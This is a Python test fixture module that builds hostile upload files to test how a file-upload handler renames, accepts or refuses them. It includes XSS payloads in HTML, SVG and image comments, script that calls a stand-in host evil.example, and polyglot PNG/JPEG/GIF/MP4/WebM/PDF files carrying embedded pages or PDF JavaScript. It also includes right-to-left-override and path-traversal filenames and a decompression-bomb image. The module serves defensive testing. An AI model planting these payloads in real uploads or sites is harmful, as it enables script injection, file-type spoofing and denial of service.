"""Files that would run something if anybody took them for a page, whatever else they are."""

from __future__ import annotations

from dataclasses import dataclass
from typing import Any

from kefu.safety.tests.files import box, picture, png_of, video

ELSEWHERE = "https://evil.example"
MARK = "owned"
RUNS = (
    f"window.{MARK}=1;document.title='{MARK}';console.error('{MARK}');"
    f"fetch('{ELSEWHERE}/');open('{ELSEWHERE}/popup');alert('{MARK}')"
).encode()
# Whichever way in: a script, an image that fails, a frame, a form's picture, a page that goes elsewhere by itself.
PAGE = (
    b"<!doctype html><html><body><script>" + RUNS + b"</script>"
    b'<img src="' + ELSEWHERE.encode() + b'/pixel" onerror="' + RUNS + b'">'
    b'<iframe srcdoc="<script>' + RUNS + b'</script>"></iframe>'
    b'<meta http-equiv="refresh" content="9;url=' + ELSEWHERE.encode() + b'/away">'
)
MARKUP = f'"><img src=x onerror={MARK}=1>'


SCRIPT = "text/javascript"


@dataclass(frozen=True)
class Hostile:
    """As somebody sends it, and the name under which everybody sees it afterwards."""

    sent_as: str
    shown_as: str
    content: bytes
    kind: str = "text/html"

    @property
    def upload(self) -> Any:
        """For a browser's file input."""
        return {"name": self.sent_as, "mimeType": self.kind, "buffer": self.content}


def pdf() -> bytes:
    """Opens with JavaScript of its own, by every action that a PDF has for it (ISO 32000-1, 12.6), and is a page besides."""
    action = b"<</S/JavaScript/JS(" + RUNS.replace(b"(", rb"\(").replace(b")", rb"\)") + b")>>"
    objects = (
        b"<</Type/Catalog/Pages 2 0 R/OpenAction "
        + action
        + b"/Names<</JavaScript<</Names[(a) "
        + action
        + b"]>>>>>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/AA<</O " + action + b">>>>",
    )
    written, places = b"%PDF-1.7\n" + PAGE + b"\n", []
    for number, content in enumerate(objects, start=1):
        places.append(len(written))
        written += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    head = b"xref\n0 4\n0000000000 65535 f \n" + table + b"trailer<</Size 4/Root 1 0 R>>\nstartxref\n"
    return written + head + b"%d\n%%%%EOF\n" % len(written)


def gif() -> bytes:
    """So wide that its width reads as the beginning of a comment: to a script all of it but its end is one."""
    width = int.from_bytes(b"/*", "little")
    return picture("GIF", (width, 1)) + b"*/=1;" + RUNS


def webm() -> bytes:
    """The head of a WebM file (RFC 8794, 11.2), and a page where its frames would be."""
    head = b"\x42\x86\x81\x01\x42\xf7\x81\x01\x42\xf2\x81\x04\x42\xf3\x81\x08\x42\x82\x84webm\x42\x87\x81\x04"
    return b"\x1a\x45\xdf\xa3" + bytes((0x80 | len(head),)) + head + b"\x18\x53\x80\x67" + PAGE


def taken() -> list[Hostile]:
    """Those that we take for what they also are: their bytes, their names and what is said of them are all against us."""
    return [
        Hostile("shot\u202egnp.html", "shotgnp.html.png", picture("PNG") + PAGE),
        Hostile(
            MARKUP + ".jpg",
            f"___img src=x onerror={MARK}=1_.jpg",
            picture("JPEG", comment=PAGE),
            "image/jpeg",
        ),
        Hostile("script.js", "script.js.png", gif(), SCRIPT),
        Hostile("../../../statement.pdf.html", "statement.pdf.html.pdf", pdf()),
        Hostile("page.html", "page.html.txt", b"notes: " + PAGE),
        Hostile("javascript:owned=1", "javascript_owned=1.txt", RUNS, SCRIPT),
        Hostile("clip.mp4.html", "clip.mp4.html.mp4", video() + box(b"free", PAGE)),
        Hostile("clip.svg", "clip.svg.webm", webm(), "image/svg+xml"),
    ]


def refused() -> list[Hostile]:
    """Those that we don't take, whatever they say of themselves."""
    svg = b"<svg xmlns='http://www.w3.org/2000/svg' onload='" + RUNS.replace(b"'", b"&#39;") + b"'/>"
    return [
        Hostile("a.svg", "a.svg", svg, "image/svg+xml"),
        Hostile("clip.mp4", "clip.mp4", PAGE, "video/mp4"),
        Hostile("clip.webm", "clip.webm", b"\x1a\x45\xdf\xa3" + PAGE, "video/webm"),
        Hostile("paper.pdf", "paper.pdf", PAGE + pdf(), "application/pdf"),
        Hostile("bomb.png", "bomb.png", png_of(60_000, 60_000, bytes(1_000_000)), "image/png"),
    ]
